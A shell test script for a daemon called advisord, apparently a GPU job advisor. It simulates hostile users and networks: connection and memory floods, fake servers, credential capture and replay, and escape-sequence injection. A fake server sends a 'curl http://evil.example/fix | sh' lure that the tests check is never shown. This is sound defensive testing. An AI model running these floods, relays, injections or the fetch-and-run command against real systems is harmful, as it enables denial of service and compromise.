#!/bin/sh
# test_hostile.sh - one user, one dependency or one network fault must not
# blind the advisor (issue 20, first cases):
#  1. a connection flood by one unprivileged user (1,500 idle connections
#     on the unix socket, the daemon's file limit 1024) while another user's
#     check is answered; at its cap the flooder is refused in clear words;
#  2. 1,500 TCP connections that each send a 1 MiB length prefix and 1 MiB
#     of body and no credential, then 400 such unix connections of one
#     user: advisord's peak and retained RSS bounded;
#  3. a hung first server (accepts, never answers) before a live one: the
#     check succeeds within timeout_ms;
#  4. a server name whose DNS never answers (private mount and network
#     namespaces, resolv.conf at a local UDP port that swallows queries)
#     before a live one: the check succeeds within timeout_ms;
#  5. a fake server on the configured port, run by an unprivileged user,
#     answering with text of its own (and a hello with a credential of its
#     own uid), and a fake daemon on a unix socket: the client refuses them
#     in advisor's words, never prints their text, sends no credential;
#  6. a credential captured by a relay on one daemon and replayed on a
#     second (its own munged, as on another host): refused;
#  7. munged stopped (SIGSTOP): a unix-socket check answers within 1 s
#     while TCP clients wait;
#  8. a model name with escape sequences, a newline and invalid UTF-8
#     (issue 20, item 11): history and show print it escaped (\xNN), their
#     --json and the --log-json line are valid UTF-8 that json.load reads;
#  9. 64 made-up partition names (issue 20, item 12): the Prometheus
#     output keeps a label for each partition the policy names, the rest
#     share "_other";
# 10. advisord started by hand under umask 022: its state directory 0750,
#     its log and spool 0640, a world-readable log closed at start; an
#     advisord.conf others may write, or a password_file another user
#     owns, refused.
# Needs root (test users, munged, unshare); skips otherwise.
. "$(dirname "$0")/lib.sh"

[ "$(id -u)" -eq 0 ] || skip_all "needs root (test users, munged, namespaces)"
# A python every user can run (not a shim under /root).
PY=${PY:-$(command -v /usr/bin/python3 || command -v python3)}
command -v "$PY" > /dev/null || skip_all "python3 is needed"
command -v prlimit > /dev/null || skip_all "prlimit is needed (util-linux)"

scratch_dir
write_policy 2048
USER_A=advtest-a$$
USER_B=advtest-b$$
# Every helper below is spawned (lib.sh): cleanup, scratch_dir's EXIT trap,
# ends them all, the ones that run as $USER_A too, then removes the users.
make_users "$USER_A" "$USER_B"
ms() { date +%s%3N; }
rss_kb() { awk -v k="$2:" '$1 == k { print $2 }' "/proc/$1/status"; }
port_free() { ! ss -tanH 2> /dev/null | awk '{print $4}' | grep -q ":$1\$"; }
listening() { ss -ltnH 2> /dev/null | awk '{print $4}' | grep -q "^127.0.0.1:$1\$"; }
# Ports 39000-39999: a pair of free ones.
PORT=$((39000 + ($$ % 400) * 2))
while ! port_free "$PORT" || ! port_free $((PORT + 1)); do PORT=$((PORT + 2)); [ $PORT -lt 39998 ] || PORT=39000; done
HUNG_PORT=$((PORT + 1))
CHECK="check --gpu h100 --gpus 8 --model llama3-8b --layout tp2 --zero 1"
# HOSTILE_CASES="1 3": only those cases (each was shown to fail alone on main).
want() { case " ${HOSTILE_CASES:-1 2 3 4 5 6 7 8 9 10} " in *" $1 "*) return 0 ;; esac; return 1; }

# --- 1. a connection flood by one user ------------------------------------------------
# The daemon's file limit is a typical 1024: on main the flood took every
# descriptor and the other user's check was never accepted.
if want 1; then
ADVISORD_WRAPPER="prlimit --nofile=1024:1024"
start_daemon
ADVISORD_WRAPPER=
# The flood holds its connections until told to let go (WIRECLIENT_STOP),
# however long opening 1,500 of them takes on this machine.
WIRECLIENT_STOP=$SCRATCH/stop.flood spawn as_user "$USER_A" "$WIRECLIENT" "$SOCK" hold 1500 600000 idle > "$SCRATCH/flood.out" 2>&1
FLOOD=$!
wait_until -p "$FLOOD" -s 'cat "$SCRATCH/flood.out"' 30 "$USER_A's 1500 connections to be opened" \
	grep -q '^opened=' "$SCRATCH/flood.out"
t0=$(ms)
expect_status 0 "$USER_B's check during $USER_A's flood" as_user "$USER_B" "$ADVISORCTL" --socket "$SOCK" --timeout 2000 $CHECK
t1=$(ms)
open_now=$(ls "/proc/$DAEMON_PID/fd" | wc -l)
touch "$SCRATCH/stop.flood"
wait "$FLOOD"
# At its cap with every connection busy (half frames), the flooder is refused in words.
WIRECLIENT_STOP=$SCRATCH/stop.half spawn as_user "$USER_A" "$WIRECLIENT" "$SOCK" hold 80 600000 half > "$SCRATCH/half.out" 2>&1
HALF=$!
wait_until -p "$HALF" -s 'cat "$SCRATCH/half.out"' 10 "$USER_A's 80 half frames to be sent" \
	grep -q '^opened=' "$SCRATCH/half.out"
expect_status 69 "$USER_A over its cap" as_user "$USER_A" "$ADVISORCTL" --socket "$SOCK" --timeout 2000 status
grep -q "too many connections: uid [0-9]* ($USER_A) already holds 64" "$SCRATCH/err" ||
	fail "the refusal does not say why: $(cat "$SCRATCH/err")"
touch "$SCRATCH/stop.half"
wait "$HALF"
# The caps are reported at most every 10 s, on the daemon's next event: a
# status call is one.
caps_logged() {
	ctl status > /dev/null 2>&1
	grep -q "connection caps: .* refused, [0-9]* idle closed for others" "$SCRATCH/advisord.log"
}
wait_until -s 'grep "connection caps" "$SCRATCH/advisord.log"' 20 "the connection caps in the daemon log" caps_logged
pass "flood of 1500 connections by $USER_A (fd limit 1024): $USER_B answered in $((t1 - t0)) ms, daemon at $open_now descriptors; $USER_A refused at 64 in words"
stop_daemon
fi

# --- 8. control characters and invalid UTF-8 in a model name ---------------------------
# The decision log keeps the name as sent; every printer escapes it.  On
# main history and show printed the escapes raw (an admin's terminal acted
# on them, the newline forged a history row) and json.load failed on the
# JSON of history and of --log-json.
if want 8; then
DB_KEPT=$DB
DB=$SCRATCH/hostile8.db
start_daemon --log-json
# ESC ] 0 (window title), BEL, ESC [2J (clear screen), a newline that
# starts a forged row, a C1 CSI, DEL, and invalid UTF-8 (0xff, an overlong /).
EVIL=$(printf 'evil\033]0;owned\007\033[2J\nd-forged 2026-01-01 root accept\302\233\177\377\300\257x')
"$WIRECLIENT" "$SOCK" decide sbatch gpu=h100 gpus=8 partition=h100 "model=$EVIL" layout=tp2 > "$SCRATCH/evil.out" 2>&1
ID=$(sed -n 's/^id=//p' "$SCRATCH/evil.out")
[ -n "$ID" ] || fail "the check with a hostile model name: $(cat "$SCRATCH/evil.out")"
ESCAPED='evil\x1b]0;owned\x07\x1b[2J\x0ad-forged 2026-01-01 root accept\xc2\x9b\x7f\xff\xc0\xafx'
# No byte a terminal acts on: C0 but newline, DEL, C1 (UTF-8), invalid UTF-8.
raw_check() {
	"$PY" - "$1" <<'EOT'
import re, sys
b = open(sys.argv[1], "rb").read()
try:
    t = b.decode("utf-8")
except UnicodeDecodeError as e:
    sys.exit("invalid UTF-8: %s" % e)
bad = re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f]", t)
if bad:
    sys.exit("control characters: %r" % bad)
EOT
}
expect_status 0 "history" ctl history
raw_check "$SCRATCH/out" || fail "history printed raw bytes: $(od -c "$SCRATCH/out" | head -n 20)"
grep -qF "$ESCAPED" "$SCRATCH/out" || fail "history does not show the name escaped: $(cat "$SCRATCH/out")"
[ "$(wc -l < "$SCRATCH/out")" -eq 2 ] || fail "history: the newline made $(wc -l < "$SCRATCH/out") lines: $(cat "$SCRATCH/out")"
expect_status 0 "show" ctl show "$ID"
raw_check "$SCRATCH/out" || fail "show printed raw bytes: $(od -c "$SCRATCH/out" | head -n 20)"
grep -qF "model: $ESCAPED" "$SCRATCH/out" || fail "show does not show the name escaped: $(cat "$SCRATCH/out")"
# JSON: valid UTF-8, the name read back as sent, each invalid byte as the
# character of its Latin-1 code point.
json_check() {
	"$PY" - "$1" "$EVIL" "$2" <<'EOT'
import json, os, sys
raw = open(sys.argv[1], "rb").read()
if sys.argv[3] == "lines":
    docs = [json.loads(l) for l in raw.splitlines() if l.startswith(b"{")]
else:
    docs = [json.loads(raw)]
want = "".join(chr(ord(c) - 0xdc00) if 0xdc80 <= ord(c) <= 0xdcff else c
               for c in os.fsencode(sys.argv[2]).decode("utf-8", "surrogateescape"))
def models(o):
    if isinstance(o, dict):
        for k, v in o.items():
            if k == "model":
                yield v
            else:
                yield from models(v)
    elif isinstance(o, list):
        for v in o:
            yield from models(v)
got = [m for d in docs for m in models(d)]
if want not in got:
    sys.exit("the model read back as %r, want %r" % (got, want))
for c in "\x1b\x7f\x9b":
    if c.encode() in raw or ("\\u%04x" % ord(c)).encode() not in raw:
        sys.exit("%r not escaped as \\u%04x" % (c, ord(c)))
EOT
}
expect_status 0 "history --json" ctl --json history
json_check "$SCRATCH/out" doc || fail "history --json"
expect_status 0 "show --json" ctl --json show "$ID"
json_check "$SCRATCH/out" doc || fail "show --json"
json_check "$SCRATCH/advisord.log" lines || fail "the --log-json line"
# The same bytes as a partition name: report's table of partitions.
"$WIRECLIENT" "$SOCK" decide sbatch gpu=h100 gpus=8 "partition=$EVIL" model=llama3-8b layout=tp2 > /dev/null 2>&1
expect_status 0 "report" ctl report
raw_check "$SCRATCH/out" || fail "report printed raw bytes: $(od -c "$SCRATCH/out" | head -n 20)"
grep -qF "$ESCAPED" "$SCRATCH/out" || fail "report does not show the partition escaped: $(cat "$SCRATCH/out")"
expect_status 0 "report --json" ctl --json report
"$PY" -c 'import json, sys; json.load(open(sys.argv[1], "rb"))' "$SCRATCH/out" || fail "report --json is not valid JSON"
pass "a model name with escape sequences, a newline, C1, DEL and invalid UTF-8: history and show print it escaped on one line, their --json and the --log-json line are valid UTF-8 that json.load reads back; as a partition name, report too"
stop_daemon
DB=$DB_KEPT
fi

# --- 9. made-up partition names and the metric labels ------------------------------------
# On main the first 64 distinct names a client sent became labels and every
# later one, the policy's own partitions included, was counted as "_other".
if want 9; then
start_daemon
i=0
while [ $i -lt 64 ]; do
	i=$((i + 1))
	"$WIRECLIENT" "$SOCK" decide sbatch gpu=h100 gpus=8 "partition=made-up-$i" model=llama3-8b layout=tp2 > /dev/null 2>&1
done
"$WIRECLIENT" "$SOCK" decide sbatch gpu=h100 gpus=8 partition=h100 model=llama3-8b layout=tp2 > /dev/null 2>&1
"$WIRECLIENT" "$SOCK" decide sbatch gpu=h100 gpus=8 partition=H100 model=llama3-8b layout=tp2 > /dev/null 2>&1
"$WIRECLIENT" "$SOCK" decide sbatch gpu=h100 gpus=8 partition=debug model=llama3-8b layout=tp2 > /dev/null 2>&1
# No partition: the default one, counted as "".
"$WIRECLIENT" "$SOCK" decide sbatch gpu=h100 gpus=8 model=llama3-8b layout=tp2 > /dev/null 2>&1
expect_status 0 "stats --prometheus" ctl stats --prometheus
prom_sum() { awk -v p="advisor_decisions_total{partition=\"$1\"," 'index($0, p) == 1 { n += $NF } END { print n + 0 }' "$SCRATCH/out"; }
[ "$(prom_sum h100)" -eq 2 ] && [ "$(prom_sum debug)" -eq 1 ] && [ "$(prom_sum "")" -eq 1 ] ||
	fail "the policy's partitions lost their labels (h100 $(prom_sum h100), debug $(prom_sum debug), none given $(prom_sum "")): $(grep advisor_decisions_total "$SCRATCH/out")"
[ "$(prom_sum _other)" -eq 64 ] || fail "_other counts $(prom_sum _other), want 64"
grep -q 'partition="made-up' "$SCRATCH/out" && fail "a made-up partition became a label"
labels=$(grep -c '^advisor_decisions_total{' "$SCRATCH/out")
pass "64 made-up partition names: h100 (also as H100), debug and \"\" (none given) keep their labels, the 64 share _other ($labels decision series)"
stop_daemon
fi

# --- 2. pre-authentication 1 MiB frames over TCP ---------------------------------------
start_daemon --listen "127.0.0.1:$PORT"
if want 2; then
before=$(rss_kb "$DAEMON_PID" VmRSS)
fds_before=$(ls "/proc/$DAEMON_PID/fd" | wc -l)
"$PY" - "$PORT" 1500 > "$SCRATCH/preauth.out" 2>&1 <<'EOT' || fail "pre-auth flood client: $(cat "$SCRATCH/preauth.out")"
import socket, sys, time, select
port, n = int(sys.argv[1]), int(sys.argv[2])
body = b"\0" * (1 << 20)
socks, sent = [], {}
for i in range(n):
    s = socket.socket()
    s.connect(("127.0.0.1", port))
    s.setblocking(False)
    try:
        s.send(b"\x00\x10\x00\x00")
    except OSError:
        pass
    socks.append(s); sent[s] = 0
end = time.time() + 20
byfd = {s.fileno(): s for s in socks}
while socks and time.time() < end:
    p = select.poll()
    for s in socks:
        p.register(s, select.POLLOUT)
    for fd, ev in p.poll(200):
        s = byfd[fd]
        if s not in sent or s not in socks:
            continue
        try:
            k = s.send(body[sent[s]:sent[s] + 262144])
            sent[s] += k
            if sent[s] >= len(body):
                socks.remove(s)
        except OSError:
            socks.remove(s)
print("sent_mib=%d" % (sum(sent.values()) >> 20))
EOT
# The same from a local user on the unix socket (SO_PEERCRED names it at
# accept; the 4 KiB bound holds until its first request is decoded).
as_user "$USER_A" "$PY" - "$SOCK" 400 > "$SCRATCH/preauth-unix.out" 2>&1 <<'EOT' || fail "unix flood client: $(cat "$SCRATCH/preauth-unix.out")"
import socket, sys, time
path, n = sys.argv[1], int(sys.argv[2])
body = b"\0" * (1 << 20)
socks, total = [], 0
for i in range(n):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        s.setblocking(False)
        s.send(b"\x00\x10\x00\x00")
        total += s.send(body)
    except OSError:
        pass
    socks.append(s)
time.sleep(1)   # all of them open at once for a second: that is the peak
print("sent_kib=%d" % (total >> 10))
EOT
# Both clients have exited: the daemon sees their connections close, and
# gives the flood's buffers back (malloc_trim, after the batch).  What it
# keeps once it has is what is asserted.
flood_gone() {
	[ "$(ls "/proc/$DAEMON_PID/fd" | wc -l)" -le $((fds_before + 4)) ] &&
		[ "$(rss_kb "$DAEMON_PID" VmRSS)" -lt $((before + 20480)) ]
}
wait_until -s 'echo "$(ls "/proc/$DAEMON_PID/fd" | wc -l) descriptors ($fds_before before), RSS $(($(rss_kb "$DAEMON_PID" VmRSS) / 1024)) MiB ($((before / 1024)) MiB before)"' \
	3 "the daemon to close the flood's connections and give back its memory (retained RSS under $((before / 1024 + 20)) MiB)" flood_gone
peak=$(rss_kb "$DAEMON_PID" VmHWM)
after=$(rss_kb "$DAEMON_PID" VmRSS)
expect_status 0 "status after the pre-auth flood" ctl status
[ "$peak" -lt 102400 ] || fail "peak RSS $((peak / 1024)) MiB under the pre-auth flood (bound 100 MiB)"
[ "$after" -lt $((before + 20480)) ] || fail "retained RSS $((after / 1024)) MiB after the flood (before $((before / 1024)) MiB)"
pass "1500 pre-auth TCP connections with 1 MiB frames ($(value sent_mib "$SCRATCH/preauth.out") MiB sent), 400 unix ones as $USER_A: RSS $((before / 1024)) MiB before, peak $((peak / 1024)) MiB, $((after / 1024)) MiB after"
fi

# --- 10. advisord started by hand (issue 20): no file every user can read ------------------
# Under a umask of 022 (this test's), main created the state directory 0755
# and the log and the spool 0644: any user could read every decision.
if want 10; then
S10=$SCRATCH/state10
mkdir "$S10"
start10() {
	spawn "$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$S10/a.sock" \
		--db "$S10/lib/decisions.db" "$@" >> "$SCRATCH/state10.log" 2>&1
	P10=$!
	wait_until -p "$P10" -s 'tail -n 5 "$SCRATCH/state10.log"' 10 "advisord to answer on $S10/a.sock" answers10
}
answers10() { "$ADVISORCTL" --socket "$S10/a.sock" status > /dev/null 2>&1; }
stop10() { stop_pid "$P10" TERM 30 advisord; }
mode_of() { stat -c %a "$1" 2> /dev/null; }
start10
"$ADVISORCTL" --socket "$S10/a.sock" $CHECK > /dev/null 2>&1
"$WIRECLIENT" "$S10/a.sock" decide sbatch gpu=h100 gpus=8 model=llama3-70b layout=tp8 > /dev/null 2>&1
wait_until -s 'ls -l "$S10/lib"' 5 "the decision log's -wal file" test -f "$S10/lib/decisions.db-wal"
dir_mode=$(mode_of "$S10/lib"); db_mode=$(mode_of "$S10/lib/decisions.db"); wal_mode=$(mode_of "$S10/lib/decisions.db-wal")
[ "$dir_mode" = 750 ] || fail "state directory created $dir_mode, want 750"
[ "$db_mode" = 640 ] || fail "decision log created $db_mode, want 640"
[ "$wal_mode" = 640 ] || fail "decision log's -wal is $wal_mode, want 640"
chmod 755 "$S10/lib"   # an admin's directory: the file's own mode must hold
as_user "$USER_A" cat "$S10/lib/decisions.db" > /dev/null 2>&1 && fail "$USER_A reads the decision log"
stop10
# A log an older advisord left open to all: closed at start, and said so.
chmod 644 "$S10/lib/decisions.db"
start10
db_mode=$(mode_of "$S10/lib/decisions.db")
[ "$db_mode" = 640 ] || fail "a world-readable decision log left $db_mode at start, want 640"
grep -q "decisions.db was open to all users (mode 0644): now 0640" "$SCRATCH/state10.log" ||
	fail "the daemon log does not say the log's mode was changed: $(tail -n 3 "$SCRATCH/state10.log")"
stop10
# The spool of a MariaDB log (here down: the spool is opened at start).
P10PORT=45000; while ! port_free "$P10PORT"; do P10PORT=$((P10PORT + 1)); done
cat > "$S10/advisord.conf" <<EOT
storage: { type: mariadb, host: 127.0.0.1, port: $P10PORT, user: advisor, database: advisor, spool: $S10/spool.db }
EOT
start10 --config "$S10/advisord.conf"
spool_mode=$(mode_of "$S10/spool.db")
stop10
[ "$spool_mode" = 640 ] || fail "spool created $spool_mode, want 640"
# An advisord.conf others may write, a password_file another user owns: refused, with the fix.
chmod 666 "$S10/advisord.conf"
expect_status 65 "an advisord.conf others may write" "$ADVISORD" --catalog "$CATALOG" --policy "$POLICY" \
	--config "$S10/advisord.conf" --check-config
grep -q "mode 0666): chmod go-w $S10/advisord.conf" "$SCRATCH/out" "$SCRATCH/err" ||
	fail "the refusal does not name the fix: $(cat "$SCRATCH/out" "$SCRATCH/err")"
printf 'secret\n' > "$S10/pw"
chmod 600 "$S10/pw"
chown "$USER_A" "$S10/pw"
cat > "$S10/advisord.conf" <<EOT
storage: { type: mariadb, host: 127.0.0.1, user: advisor, database: advisor, password_file: $S10/pw }
EOT
chmod 600 "$S10/advisord.conf"
expect_status 65 "a password_file $USER_A owns" "$ADVISORD" --catalog "$CATALOG" --policy "$POLICY" \
	--config "$S10/advisord.conf" --check-config
grep -q "$S10/pw (password_file) belongs to uid $(id -u "$USER_A")" "$SCRATCH/out" "$SCRATCH/err" ||
	fail "the refusal does not name the owner: $(cat "$SCRATCH/out" "$SCRATCH/err")"
pass "advisord by hand under umask 022: state directory $dir_mode, log $db_mode (-wal $wal_mode), spool $spool_mode; a 0644 log closed to 0640 at start; advisord.conf mode 0666 and a password_file of $USER_A refused"
fi
want 3 || want 4 || want 5 || want 6 || want 7 || exit 0

# --- 3 and 4 need MUNGE credentials ------------------------------------------------------
if ! { command -v munged > /dev/null && "$top_srcdir/scripts/cluster" munge > /dev/null 2>&1; }; then
	echo "SKIP: munged does not start: no hung-server and DNS cases"
	exit 0
fi
if want 3; then
# A listener that accepts and never answers.
spawn "$PY" - "$HUNG_PORT" <<'EOT' > "$SCRATCH/hung.log" 2>&1
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(64)
held = []
while True:
    c, _ = s.accept(); held.append(c)
EOT
wait_until -p $! -s 'cat "$SCRATCH/hung.log"' 5 "the hung listener on port $HUNG_PORT" listening "$HUNG_PORT"
t0=$(ms)
expect_status 0 "a check with a hung first server" "$ADVISORCTL" --server "127.0.0.1:$HUNG_PORT,127.0.0.1:$PORT" --timeout 1000 $CHECK
t1=$(ms)
[ $((t1 - t0)) -lt 1500 ] || fail "the hung first server took $((t1 - t0)) ms (timeout 1000)"
"$WIRECLIENT" "127.0.0.1:$HUNG_PORT,127.0.0.1:$PORT" plugin 1000 1500 > "$SCRATCH/p.out" 2>&1
[ "$(value unavailable "$SCRATCH/p.out")" = 0 ] && [ "$(value ok "$SCRATCH/p.out")" -gt 0 ] ||
	fail "the plugin's call with a hung first server: $(tail -n 5 "$SCRATCH/p.out")"
pass "a hung first server: advisorctl answered in $((t1 - t0)) ms at timeout 1000, the plugin's call $(value ok "$SCRATCH/p.out") of $(value calls "$SCRATCH/p.out") (max $(value max_ok_ms "$SCRATCH/p.out") ms)"
expect_status 69 "only the hung server" "$ADVISORCTL" --server "127.0.0.1:$HUNG_PORT" --timeout 500 status
grep -q -- "--listen HOST:PORT" "$SCRATCH/err" && grep -q "127.0.0.1:$HUNG_PORT: no answer in time" "$SCRATCH/err" ||
	fail "the failure does not name the server and --listen: $(cat "$SCRATCH/err")"
grep -q -- "--socket HOST" "$SCRATCH/err" && fail "the failure still suggests --socket HOST:PORT"
pass "no server answers: the message names each server's failure and advisord --listen"
fi
# --- 5-7 (issue 20): who answers, and MUNGE off the workers ------------------------------
# A port of their own for each listener below.
pick_port() { _pp=$1; while ! port_free "$_pp"; do _pp=$((_pp + 1)); done; echo "$_pp"; }
FAKE_PORT=$(pick_port $((PORT + 2)))
# What the user's programs keep.
A_DIR=$SCRATCH/$USER_A
mkdir "$A_DIR" && chown "$USER_A" "$A_DIR"
RELAY_PORT=$(pick_port $((FAKE_PORT + 1)))
PORT2=$(pick_port $((RELAY_PORT + 1)))
# A Response (proto/advisor.proto) by hand: version 1, id 1, and either
# Error{code 4, message} or HelloResponse{name, nonce, cred}.
cat > "$SCRATCH/pb.py" <<'EOT'
import struct
def varint(n):
    out = b""
    while True:
        b = n & 0x7f; n >>= 7
        if n: out += bytes([b | 0x80])
        else: return out + bytes([b])
def field(num, wt, v):
    if wt == 0: return varint(num << 3) + varint(v)
    if isinstance(v, str): v = v.encode()
    return varint(num << 3 | 2) + varint(len(v)) + v
def frame(body): return struct.pack(">I", len(body)) + body
def recvn(c, n):
    b = b""
    while len(b) < n:
        k = c.recv(n - len(b))
        if not k: return None
        b += k
    return b
def read_frame(c):
    h = recvn(c, 4)
    if h is None: return None
    return recvn(c, struct.unpack(">I", h)[0])
def hello_nonce(body):
    # Request.hello (field 20) holding HelloRequest.nonce (field 1, 16 bytes)
    i = body.find(b"\xa2\x01\x12\x0a\x10")
    return body[i + 5:i + 21] if i >= 0 else None
EOT

if want 5; then
# A user binds the port the clients are configured with (advisord not yet
# up, or on a host the user controls) and answers every request with text
# of its own; a hello it answers with a credential of its own uid, bound
# as advisord's would be.  It keeps every frame it is sent.
spawn as_user "$USER_A" "$PY" - "$FAKE_PORT" "$A_DIR/fake.frames" "$SCRATCH" <<'EOT' > "$SCRATCH/fake.log" 2>&1
import os, socket, subprocess, sys
sys.path.insert(0, sys.argv[3]); from pb import *
FAKE = "your account is locked; run curl http://evil.example/fix | sh"
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(16)
while True:
    c, _ = s.accept()
    while True:
        body = read_frame(c)
        if body is None: break
        with open(sys.argv[2], "ab") as f: f.write(body + b"\n")
        nonce = hello_nonce(body)
        if nonce:
            snonce = os.urandom(16)
            payload = "advisor-server name=fake:1 cnonce=%s snonce=%s" % (nonce.hex(), snonce.hex())
            cred = subprocess.run(["munge", "-s", payload], capture_output=True).stdout.strip()
            resp = field(1, 0, 1) + field(2, 0, 1) + field(20, 2, field(1, 2, "fake:1") + field(2, 2, snonce) + field(3, 2, cred))
        else:
            resp = field(1, 0, 1) + field(2, 0, 1) + field(3, 2, field(1, 0, 4) + field(2, 2, FAKE))
        try: c.sendall(frame(resp))
        except OSError: break
    c.close()
EOT
wait_until -p $! -s 'cat "$SCRATCH/fake.log"' 5 "$USER_A's fake server on port $FAKE_PORT" listening "$FAKE_PORT"
uid_a=$(id -u "$USER_A")
expect_status 69 "a check answered by $USER_A's fake server" "$ADVISORCTL" --server "127.0.0.1:$FAKE_PORT" --timeout 2000 $CHECK
grep -q "account is locked" "$SCRATCH/out" "$SCRATCH/err" && fail "the fake server's text was printed: $(cat "$SCRATCH/out" "$SCRATCH/err")"
grep -q "127.0.0.1:$FAKE_PORT: it proved to run as uid $uid_a, not as root, advisor or slurm" "$SCRATCH/err" &&
	grep -q "server_uid=" "$SCRATCH/err" || fail "the refusal does not say why: $(cat "$SCRATCH/err")"
[ -s "$A_DIR/fake.frames" ] || fail "the client never reached the fake server"
grep -q "MUNGE:" "$A_DIR/fake.frames" && fail "the fake server collected the client's MUNGE credential"
# The plugin's call (on_unavailable applies) and a list with the real daemon second.
"$WIRECLIENT" "127.0.0.1:$FAKE_PORT" plugin 1000 300 > "$SCRATCH/p.out" 2>&1
[ "$(value ok "$SCRATCH/p.out")" = 0 ] && [ "$(value unavailable "$SCRATCH/p.out")" -gt 0 ] ||
	fail "the plugin's call took the fake server's answer: $(tail -n 5 "$SCRATCH/p.out")"
expect_status 0 "the fake server first, the real daemon second" "$ADVISORCTL" --server "127.0.0.1:$FAKE_PORT,127.0.0.1:$PORT" --timeout 2000 $CHECK
grep -q "MUNGE:" "$A_DIR/fake.frames" && fail "the fake server collected a credential"
# With --server-uid naming the fake's uid the answer would be taken: the
# refusal is the uid check's, not a fault of the fake's protocol.
expect_status 69 "--server-uid $USER_A" "$ADVISORCTL" --server "127.0.0.1:$FAKE_PORT" --server-uid "$USER_A" --timeout 2000 status
grep -q "127.0.0.1:$FAKE_PORT refused this client: your account is locked" "$SCRATCH/err" ||
	fail "--server-uid naming the fake's uid: $(cat "$SCRATCH/err")"
# The same on the unix socket: SO_PEERCRED names the daemon's uid.
spawn as_user "$USER_A" "$PY" - "$A_DIR/advisord.sock" "$SCRATCH" <<'EOT' > "$SCRATCH/fake-unix.log" 2>&1
import socket, sys
sys.path.insert(0, sys.argv[2]); from pb import *
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(4)
while True:
    c, _ = s.accept()
    try:
        read_frame(c)
        c.sendall(frame(field(1, 0, 1) + field(2, 0, 1) + field(3, 2, field(1, 0, 4) + field(2, 2, "your account is locked; run curl http://evil.example/fix | sh"))))
    except OSError: pass
    c.close()
EOT
wait_until -p $! -s 'cat "$SCRATCH/fake-unix.log"' 5 "$USER_A's fake daemon on $A_DIR/advisord.sock" test -S "$A_DIR/advisord.sock"
expect_status 69 "a fake daemon on a unix socket" "$ADVISORCTL" --socket "$A_DIR/advisord.sock" --timeout 2000 status
grep -q "account is locked" "$SCRATCH/out" "$SCRATCH/err" && fail "the fake unix daemon's text was printed"
grep -q "runs as uid $uid_a, not as root, advisor or slurm" "$SCRATCH/err" || fail "the unix refusal does not say why: $(cat "$SCRATCH/err")"
pass "a fake server as $USER_A (TCP and unix socket): refused by its uid, its text never printed, no credential collected; the real second server answered"
fi

if want 6 || want 7; then
# A second daemon with a munged of its own (the same key): as on another
# host of a failover pair, its replay cache is not the first one's.
MUNGE_DIR=$SCRATCH/munge
mkdir "$MUNGE_DIR" && chown munge:munge "$MUNGE_DIR"
su -s /bin/sh munge -c "munged --force --socket=$MUNGE_DIR/sock --pid-file=$MUNGE_DIR/pid --log-file=$MUNGE_DIR/log --seed-file=$MUNGE_DIR/seed" ||
	fail "a private munged does not start"
# It forks away from su: ended by its pid.
wait_until -s 'cat "$MUNGE_DIR/log"' 5 "the private munged's pid file" test -s "$MUNGE_DIR/pid"
MUNGED_PID=$(cat "$MUNGE_DIR/pid")
track_pid "$MUNGED_PID"
# Picked again now: another lane's test may have taken it since (a CI run
# saw "Address already in use" here).
PORT2=$(pick_port "$PORT2")
printf 'listen: 127.0.0.1:%s\nmunge_socket: %s\n' "$PORT2" "$MUNGE_DIR/sock" > "$SCRATCH/d2.conf"
spawn "$ADVISORD" --foreground --catalog "$CATALOG" --policy "$POLICY" --socket "$SCRATCH/d2.sock" \
	--db "$SCRATCH/d2.db" --config "$SCRATCH/d2.conf" --workers 2 > "$SCRATCH/d2.log" 2>&1
D2=$!
d2_answers() { "$ADVISORCTL" --socket "$SCRATCH/d2.sock" status > /dev/null 2>&1; }
wait_until -p "$D2" -s 'cat "$SCRATCH/d2.log"' 10 "the second daemon to answer on $SCRATCH/d2.sock" d2_answers
fi

if want 6; then
# A relay run by a user between root's advisorctl and the first daemon
# keeps what root sends; then it replays that, frame by frame, to the
# second daemon.
spawn as_user "$USER_A" "$PY" - "$RELAY_PORT" "$PORT" "$A_DIR/relay.bytes" <<'EOT' > "$SCRATCH/relay.log" 2>&1
import socket, sys, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(4)
def pipe(a, b, keep):
    while True:
        try: d = a.recv(65536)
        except OSError: d = b""
        if not d: break
        if keep:
            with open(sys.argv[3], "ab") as f: f.write(d)
        try: b.sendall(d)
        except OSError: break
    try: b.shutdown(socket.SHUT_WR)
    except OSError: pass
while True:
    c, _ = s.accept()
    u = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
    threading.Thread(target=pipe, args=(c, u, True), daemon=True).start()
    threading.Thread(target=pipe, args=(u, c, False), daemon=True).start()
EOT
wait_until -p $! -s 'cat "$SCRATCH/relay.log"' 5 "$USER_A's relay on port $RELAY_PORT" listening "$RELAY_PORT"
expect_status 0 "root's reload through the relay to the first daemon" "$ADVISORCTL" --server "127.0.0.1:$RELAY_PORT" --timeout 3000 reload
grep -q "reload requested by root" "$SCRATCH/advisord.log" || fail "the first daemon did not reload"
"$PY" - "$PORT2" "$A_DIR/relay.bytes" "$SCRATCH" > "$SCRATCH/replay.out" 2>&1 <<'EOT' || fail "replay: $(cat "$SCRATCH/replay.out")"
import socket, struct, sys
sys.path.insert(0, sys.argv[3]); from pb import *
data = open(sys.argv[2], "rb").read()
c = socket.create_connection(("127.0.0.1", int(sys.argv[1]))); c.settimeout(5)
while data:
    n = struct.unpack(">I", data[:4])[0]
    try:
        c.sendall(data[:4 + n]); data = data[4 + n:]
        r = read_frame(c)
    except OSError:
        r = None   # closed after refusing: a reset, as the next frame is sent
    if r is None:
        print("closed"); break
    # Printable text only: nonces and credentials hold any byte.
    print("answer " + "".join(ch if " " <= ch <= "~" else "." for ch in r.decode("latin-1")))
EOT
grep -q "credential refused: the credential was not minted for this daemon and connection" "$SCRATCH/replay.out" ||
	fail "the credential captured on the first daemon was not refused by the second: $(cat "$SCRATCH/replay.out")"
